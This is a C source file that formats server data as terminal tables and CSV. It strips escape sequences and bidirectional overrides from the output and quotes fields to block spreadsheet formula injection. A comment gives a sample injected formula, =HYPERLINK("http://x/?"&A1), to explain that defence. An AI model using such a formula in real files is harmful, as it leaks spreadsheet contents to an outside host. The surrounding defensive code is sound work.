#define _GNU_SOURCE /* vasprintf */

#include "table.h"

#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "net/utf8.h"

struct table {
  size_t ncols;
  char **cells; /* row-major, headers first */
  size_t n, cap;
  int failed;
};

table_t *table_new(size_t ncols, const char *const *headers) {
  table_t *t = calloc(1, sizeof(*t));

  if (t == NULL)
    return NULL;
  t->ncols = ncols;
  for (size_t i = 0; i < ncols; i++)
    table_add(t, strdup(headers[i]));
  if (t->failed) {
    table_free(t);
    return NULL;
  }
  return t;
}

void table_add(table_t *t, char *cell) {
  if (cell == NULL || t->failed) {
    t->failed = 1;
    free(cell);
    return;
  }
  /* A line break would tear the row apart, and neither an escape sequence nor a
   * bidirectional override sent by the server may reach the terminal. */
  char *shown = text_safe(cell, 0);
  free(cell);
  if (shown == NULL) {
    t->failed = 1;
    return;
  }
  cell = shown;
  if (t->n == t->cap) {
    size_t cap = t->cap ? t->cap * 2 : 64;
    char **p = realloc(t->cells, cap * sizeof(*p));
    if (p == NULL) {
      t->failed = 1;
      free(cell);
      return;
    }
    t->cells = p;
    t->cap = cap;
  }
  t->cells[t->n++] = cell;
}

void text_put(FILE *o, const char *str, int keep_newlines) {
  const unsigned char *s = (const unsigned char *)str, *end = s + strlen(str);

  while (s < end) {
    size_t n = clue__utf8_len(s, (size_t)(end - s));
    uint32_t cp;
    if (n == 0) {
      fprintf(o, "<0x%02X>", *s++);
      continue;
    }
    cp = clue__utf8_value(s, n);
    if (cp < 0x20 || cp == 0x7F)
      fputc(keep_newlines && cp == '\n' ? '\n' : ' ', o);
    else if (clue__utf8_unsafe_to_show(cp))
      fprintf(o, "<U+%04X>", (unsigned)cp);
    else
      fwrite(s, 1, n, o);
    s += n;
  }
}

char *text_safe(const char *s, int keep_newlines) {
  char *buf = NULL;
  size_t len = 0;
  FILE *o = open_memstream(&buf, &len);
  int bad;

  if (o == NULL)
    return NULL;
  text_put(o, s, keep_newlines);
  bad = ferror(o);
  if (fclose(o) != 0 || bad) {
    free(buf);
    return NULL;
  }
  return buf;
}

void table_free(table_t *t) {
  if (t == NULL)
    return;
  for (size_t i = 0; i < t->n; i++)
    free(t->cells[i]);
  free(t->cells);
  free(t);
}

/* Wide (two-column) ranges of Unicode's East Asian Width property, roughly. */
static int cp_width(uint32_t cp) {
  if (cp == 0 || (cp >= 0x300 && cp <= 0x36F) || (cp >= 0x200B && cp <= 0x200D) ||
      (cp >= 0x2060 && cp <= 0x2064) || cp == 0xFEFF || (cp >= 0xFE00 && cp <= 0xFE0F))
    return 0;
  if ((cp >= 0x1100 && cp <= 0x115F) || (cp >= 0x2E80 && cp <= 0x303E) ||
      (cp >= 0x3041 && cp <= 0x33FF) || (cp >= 0x3400 && cp <= 0x4DBF) ||
      (cp >= 0x4E00 && cp <= 0x9FFF) || (cp >= 0xA000 && cp <= 0xA4CF) ||
      (cp >= 0xAC00 && cp <= 0xD7A3) || (cp >= 0xF900 && cp <= 0xFAFF) ||
      (cp >= 0xFE30 && cp <= 0xFE4F) || (cp >= 0xFF00 && cp <= 0xFF60) ||
      (cp >= 0xFFE0 && cp <= 0xFFE6) || (cp >= 0x1F300 && cp <= 0x1F64F) ||
      (cp >= 0x1F900 && cp <= 0x1F9FF) || (cp >= 0x20000 && cp <= 0x3FFFD))
    return 2;
  return 1;
}

size_t text_width(const char *str) {
  const unsigned char *s = (const unsigned char *)str;
  size_t w = 0;

  while (*s) {
    uint32_t cp;
    int extra;
    if (*s < 0x80) {
      cp = *s;
      extra = 0;
    } else if ((*s & 0xE0) == 0xC0) {
      cp = *s & 0x1F;
      extra = 1;
    } else if ((*s & 0xF0) == 0xE0) {
      cp = *s & 0x0F;
      extra = 2;
    } else if ((*s & 0xF8) == 0xF0) {
      cp = *s & 0x07;
      extra = 3;
    } else {
      s++; /* stray byte: a terminal shows one replacement character */
      w++;
      continue;
    }
    s++;
    while (extra-- > 0 && (*s & 0xC0) == 0x80)
      cp = cp << 6 | (*s++ & 0x3F);
    w += (size_t)cp_width(cp);
  }
  return w;
}

int table_print(const table_t *t, FILE *out) {
  size_t *width;

  if (t->failed)
    return -1;
  width = calloc(t->ncols, sizeof(*width));
  if (width == NULL)
    return -1;
  for (size_t i = 0; i < t->n; i++) {
    size_t w = text_width(t->cells[i]);
    if (w > width[i % t->ncols])
      width[i % t->ncols] = w;
  }
  for (size_t i = 0; i < t->n; i++) {
    size_t col = i % t->ncols;
    fputs(t->cells[i], out);
    if (col + 1 == t->ncols || i + 1 == t->n) {
      fputc('\n', out);
    } else {
      for (size_t pad = text_width(t->cells[i]); pad < width[col] + 2; pad++)
        fputc(' ', out);
    }
  }
  free(width);
  return 0;
}

char *table_vfmt(const char *fmt, va_list ap) {
  char *s = NULL;

  return vasprintf(&s, fmt, ap) < 0 ? NULL : s;
}

char *table_fmt(const char *fmt, ...) {
  va_list ap;
  char *s;

  va_start(ap, fmt);
  s = table_vfmt(fmt, ap);
  va_end(ap);
  return s;
}

/* One field, quoted as RFC 4180 §2 says when it must be, and when it holds a semicolon or a
 * tab: the separators a spreadsheet of another locale may split on, which would start a cell
 * (and so a formula) inside the field. */
static void csv_text(FILE *o, const char *s, int formula, int first) {
  if (!first)
    fputc(',', o);
  if (strpbrk(s, ",;\t\"\r\n") == NULL) {
    if (formula)
      fputc('\'', o);
    fputs(s, o);
    return;
  }
  fputc('"', o);
  if (formula)
    fputc('\'', o);
  for (; *s; s++) {
    if (*s == '"')
      fputc('"', o);
    fputc(*s, o);
  }
  fputc('"', o);
}

void table_csv_field(FILE *o, const char *s, int first) {
  /* A spreadsheet takes a cell starting with one of these for a formula (a tab or CR may
   * precede one), so a unit name =HYPERLINK("http://x/?"&A1) would run when the file is
   * opened; a leading quote keeps it text (OWASP's advice on CSV injection). */
  int formula = s[0] != '\0' && strchr("=+-@\t\r", s[0]) != NULL;
  char *shown = NULL;

  /* A file or a pipe gets the data as it is; a terminal gets it as a table shows it. */
  if (isatty(fileno(o)))
    s = (shown = text_safe(s, 1)) != NULL ? shown : "?";
  csv_text(o, s, formula, first);
  free(shown);
}
